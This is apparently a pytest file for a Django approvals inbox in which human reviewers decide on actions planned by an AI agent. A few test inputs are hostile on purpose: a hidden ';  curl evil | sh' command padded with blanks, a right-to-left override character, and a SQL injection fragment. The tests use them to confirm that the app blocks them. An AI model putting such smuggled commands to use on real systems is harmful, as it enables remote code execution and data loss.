"""The inbox: waiting requests and their order, new requests, batches."""

import re
from uuid import UUID

import pytest
from django.urls import reverse

from approvals.models import Gate, Vote
from db.clock import now_us
from tests.approvals.inbox_scenario import InboxScenario
from tests.approvals.reviewer import Reviewer, url_of
from tests.approvals.test_inbox_queries import multiply
from tests.matrices import keep_core
from tests.rows_with_entries import change_gates
from web.templatetags.gatebook import moment


def test_the_first_page_names_the_requests_that_wait_for_a_reviewer(
    inbox: InboxScenario, gate: Gate
) -> None:
    page = inbox.organization.client("reviewer").get("/").content.decode()
    assert "Review 1 request" in " ".join(page.split())
    assert reverse("gate", args=[gate.id]) in page
    assert "Review 1" not in " ".join(
        inbox.organization.client("viewer").get("/").content.decode().split()
    )
    inbox.answer(gate, "reviewer")
    assert (
        "Nothing waits for you" in inbox.organization.client("reviewer").get("/").content.decode()
    )


def test_the_layout_counts_waiting_requests_and_shows_the_mode(
    inbox: InboxScenario, gate: Gate, rita: Reviewer
) -> None:
    html = rita.page("/tools/")
    assert '<span class="count">1<span class="visually-hidden"> waiting</span></span>' in html
    assert "<b>Observe mode:</b>" not in html
    assert "<title>(1) Approvals" in rita.page(reverse("inbox"))
    inbox.rules(mode="observe")
    assert "<b>Observe mode:</b>" in rita.page("/tools/")


def test_the_inbox_is_ordered_by_reversibility_and_deadline(
    inbox: InboxScenario, rita: Reviewer
) -> None:
    for name, undo in (("close", "reversible"), ("drop", "irreversible")):
        inbox.declare(name, undo)
    names = ["close", "git.push", "drop", "deploy", "undeclared"]
    gates_of = {
        name: inbox.gate(inbox.plan(name, tool=name, arguments={"of": name})) for name in names
    }
    change_gates(
        Gate.objects.filter(id=gates_of["undeclared"].id),
        decide_by_us=gates_of["drop"].decide_by_us - 60_000_000,
    )
    html = rita.page(reverse("inbox"))
    places = {name: html.index(url_of(gate)) for name, gate in gates_of.items()}
    assert sorted(places, key=lambda name: places[name]) == [
        "undeclared",
        "drop",
        "git.push",
        "deploy",
        "close",
    ]


def test_the_own_list_contains_gates_that_my_answer_counts_for(
    inbox: InboxScenario, gate: Gate, rita: Reviewer
) -> None:
    inbox_url = reverse("inbox")
    assert url_of(gate) in rita.page(inbox_url, state="mine")
    assert url_of(gate) not in Reviewer(inbox, "operator").page(inbox_url, state="mine")
    second = inbox.gate(inbox.plan("e-2", tool="deploy", arguments={"version": "1"}))
    rita.answer(second)
    html = rita.page(inbox_url, state="mine")
    assert url_of(gate) in html
    assert f'href="{url_of(second)}" data-gate' not in html


def test_lists_go_on_by_key(
    inbox: InboxScenario, rita: Reviewer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("approvals.inbox.inbox_queries.INBOX_PAGE_SIZE", 2)
    all_of = [inbox.gate(inbox.plan(f"e-{n}", arguments={"n": n})) for n in range(5)]
    seen: list[str] = []
    after = ""
    for _ in range(3):
        html = rita.page(reverse("inbox"), after=after)
        seen += re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html)
        match = re.search(r"amp;after=([\d-]+)", html)
        after = match[1] if match else ""
    assert seen == [url_of(gate) for gate in all_of]
    assert not after
    assert rita.page(reverse("inbox"), after="x-1;--")


def test_expired_and_cancelled_requests_are_two_lists(
    inbox: InboxScenario, rita: Reviewer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("approvals.inbox.inbox_queries.INBOX_PAGE_SIZE", 2)
    swept, older, late, cancelled, denied, open_still = (
        inbox.gate(inbox.plan(f"e-{n}", arguments={"n": n})) for n in range(6)
    )
    past = {"decide_by_us": late.requested_at_us + 1}
    # Requested first and swept last: the list is ordered by when each ended.
    change_gates(
        Gate.objects.filter(id=swept.id), status="expired", ended_at_us=now_us() + 10**9, **past
    )
    change_gates(Gate.objects.filter(id=older.id), status="expired", ended_at_us=now_us(), **past)
    change_gates(Gate.objects.filter(id=late.id), **past)  # the job has yet to run
    assert inbox.agent.post(f"/gates/{cancelled.id}/cancel").status_code == 200
    inbox.answer(denied, "carol", "deny")
    first = rita.page(reverse("inbox"), state="expired")
    match = re.search(r"amp;after=([\d-]+)", first)
    assert match
    second = rita.page(reverse("inbox"), state="expired", after=match[1])
    withdrawn = rita.page(reverse("inbox"), state="cancelled")
    seen = [
        re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html)
        for html in (first, second, withdrawn)
    ]
    assert seen == [[url_of(swept), url_of(older)], [url_of(late)], [url_of(cancelled)]]
    # The number of a list counts what the overview counts; it names its time.
    assert "3 requests of the last 7 days (since" in " ".join(first.split())
    assert "1 request of the last 7 days (since" in " ".join(withdrawn.split())
    overview = " ".join(rita.page("/").split())
    assert ' aria-label="2 expired">2</a></dd>' in overview  # late is not yet swept
    assert f'href="{reverse("exemptions")}"' in first
    with monkeypatch.context() as later:  # those made before do not count, whenever they expire
        week = now_us() + 7 * 86_400_000_000
        later.setattr("approvals.inbox.inbox_queries.now_us", lambda: week)
        none = rita.page(reverse("inbox"), state="expired")
        assert "0 requests of the last 7 days (since" in " ".join(none.split())
        assert "The list also has earlier requests." in none
    assert "earlier requests" not in first
    swept.refresh_from_db()
    assert moment(swept.ended_at_us) in first  # dated by its end, like the others
    assert moment(past["decide_by_us"]) in second
    decided = rita.page(reverse("inbox"), state="decided")
    assert url_of(denied) in decided
    assert url_of(open_still) not in first + second + decided


def test_answerable_requests_are_not_lost_behind_thousands_for_others(
    inbox: InboxScenario, rita: Reviewer
) -> None:
    inbox.rules(
        "name: teams\nrules:\n"
        "- {id: theirs, title: T, match: {tools: [git.push]}, outcome: require, require: {teams: "
        "[others]}}\n"
        "- {id: ours, title: O, match: {tools: [deploy]}, outcome: require, require: {people: "
        "[reviewer]}}\n"
    )
    theirs = inbox.gate(inbox.plan(arguments={"n": 1}))
    answerable = inbox.gate(inbox.plan("e-2", tool="deploy", arguments={"version": "1"}))
    multiply(theirs, 1100)
    html = rita.page(reverse("inbox"), state="mine")
    assert url_of(answerable) in html
    assert html.count("data-gate") == 1


def test_new_requests_are_announced_and_an_unchanged_list_is_204(
    inbox: InboxScenario, gate: Gate, rita: Reviewer
) -> None:
    html = rita.page(reverse("inbox"))
    since = re.search(r"approvals/\?since=([\d-]+)", html)
    assert since
    poll = {"since": since[1], "state": "pending"}
    headers = {"HX-Request": "true"}
    assert rita.client.get(reverse("inbox"), poll, headers=headers).status_code == 204
    inbox.plan("e-2", arguments={"ref": "next"})
    answer = rita.client.get(reverse("inbox"), poll, headers=headers)
    assert "1 new request." in answer.content.decode()
    assert "<html" not in answer.content.decode()
    paused = rita.page(reverse("inbox"), live="off")
    assert "data-polls" not in paused
    assert "Resume updates" in paused


def test_an_empty_inbox_shows_the_time_of_the_last_decision(
    inbox: InboxScenario, gate: Gate, rita: Reviewer
) -> None:
    rita.answer(gate)
    html = rita.page(reverse("inbox"))
    assert "No requests are waiting. Last decision" in html
    assert url_of(gate) in rita.page(reverse("inbox"), state="decided")


def test_effects_that_ran_without_approval_are_at_the_top(
    inbox: InboxScenario, gate: Gate, rita: Reviewer
) -> None:
    report = {"id": "r-1", "kind": "effect.dispatched", "session": "s-1", "effect_key": "e-1"}
    assert inbox.agent.report([report]).status_code == 200
    html = rita.page(reverse("inbox"))
    assert html.index("Executed without approval") < html.index("No requests are waiting")
    assert reverse("effect", args=[gate.effect_id]) in html
    assert "Executed without approval." in rita.page(url_of(gate))


def test_an_observing_project_counts_what_would_have_needed_approval(
    inbox: InboxScenario, rita: Reviewer
) -> None:
    inbox.rules(mode="observe")
    inbox.plan()
    html = rita.page(reverse("inbox"))
    assert "would have held 1 effect." in html
    match = re.search(r'href="(/search/\?[^"]+)">Review', html)
    assert match
    assert "git.push" in rita.page(match[1].replace("&amp;", "&"))


@pytest.fixture
def closings(inbox: InboxScenario) -> list[Gate]:
    """Three reversible requests of one shape."""
    inbox.declare("close", "reversible")
    return [
        inbox.gate(inbox.plan(f"c-{n}", tool="close", arguments={"issue": n})) for n in range(3)
    ]


def test_requests_of_one_shape_are_decided_together_each_with_a_vote(
    inbox: InboxScenario, closings: list[Gate], rita: Reviewer
) -> None:
    html = rita.page(reverse("inbox"))
    assert "2 similar requests" in html
    ticked = re.findall(r'name="gate" value="([0-9a-f-]{36})"', html)
    assert {UUID(identity) for identity in ticked} == {gate.id for gate in closings}
    rita.client.post(reverse("batch"), {"gate": ticked})
    html = rita.page(reverse("batch_confirm"))
    tokens = dict(re.findall(r'name="(seen-\w{32})" value="([^"]+)"', html))
    assert len(tokens) == 3
    assert html.count("issue") >= 3
    assert not Vote.objects.exists()
    fields = {"gate": ticked, "answer": "approve", "reason": "stale, all of them"}
    rita.client.post(reverse("batch_confirm"), {**tokens, **fields})
    assert Vote.objects.filter(answer="approve", reason_characters=18).count() == 3


@pytest.mark.parametrize("wrong", ["many", "mixed", "final", "ended", "none"])
def test_unlike_requests_are_not_decided_together(
    inbox: InboxScenario, closings: list[Gate], rita: Reviewer, wrong: str
) -> None:
    chosen = [gate.id for gate in closings]
    if wrong == "many":
        chosen = [
            inbox.gate(inbox.plan(f"m-{n}", tool="close", arguments={"n": n})).id for n in range(26)
        ]
    elif wrong == "mixed":
        chosen.append(inbox.gate(inbox.plan(arguments={"ref": "main"})).id)
    elif wrong == "final":
        chosen = [
            inbox.gate(inbox.plan(f"f-{n}", tool="drop", arguments={"n": n})).id for n in range(2)
        ]
    elif wrong == "ended":
        inbox.answer(closings[0], "carol")
    elif wrong == "none":
        chosen = []
    before = Vote.objects.count()
    rita.client.post(reverse("batch"), {"gate": [str(identity) for identity in chosen]})
    # Ended requests are apart; the others can be decided.
    rita.page(reverse("batch_confirm"), 200 if wrong == "ended" else 409)
    fields = {"answer": "approve", "gate": [str(identity) for identity in chosen]}
    assert rita.client.post(reverse("batch_confirm"), fields).status_code == 409
    assert Vote.objects.count() == before


@pytest.mark.parametrize(
    "text",
    ["close\u202e it", "close" + " " * 200 + "; curl evil | sh", "all is well. " * 120],
    ids=["hidden", "blanks", "long"],
)
def test_a_request_too_long_for_a_glance_is_never_in_a_batch(
    inbox: InboxScenario, closings: list[Gate], rita: Reviewer, text: str
) -> None:
    trap = inbox.gate(inbox.plan("trap", tool="close", arguments={"issue": text}))
    html = rita.page(reverse("inbox"))
    assert "2 similar requests" in html
    assert f'value="{trap.id}"' not in html
    rita.client.post(reverse("batch"), {"gate": [str(item.id) for item in (*closings, trap)]})
    page = rita.page(reverse("batch_confirm"))
    assert "hidden characters, long blanks or too much text" in page
    assert f'value="{trap.id}"' not in page
    fields = {"answer": "approve", "hidden_seen": "1", "gate": str(trap.id)}
    refused = rita.client.post(reverse("batch_confirm"), fields)
    assert refused.status_code == 409
    assert f"{trap}: hidden characters" in refused.content.decode()
    assert not Vote.objects.exists()
    rita.client.post(reverse("batch"), {"gate": [str(item.id) for item in closings]})
    rita.page(reverse("batch_confirm"))


@pytest.mark.parametrize(
    "value",
    keep_core(["\0", "x" * 5000, "'; DROP TABLE", "１-１", "-1-1", "9" * 40, "\u202e"], one_in=3),
)
def test_any_query_string_is_answered(
    inbox: InboxScenario, gate: Gate, rita: Reviewer, value: str
) -> None:
    for name in ("state", "risk", "repo", "after", "open", "live"):
        rita.page(reverse("inbox"), 200, **{"state": "pending", name: value})
    for state in ("mine", "decided", "expired"):
        rita.page(
            reverse("inbox"),
            200,
            state=state,
            risk=value,
            repo=value,
            after=value,
            open=value,
            live=value,
        )
    headers = {"HX-Request": "true"}
    assert rita.client.get(reverse("inbox"), {"since": value}, headers=headers).status_code == 200
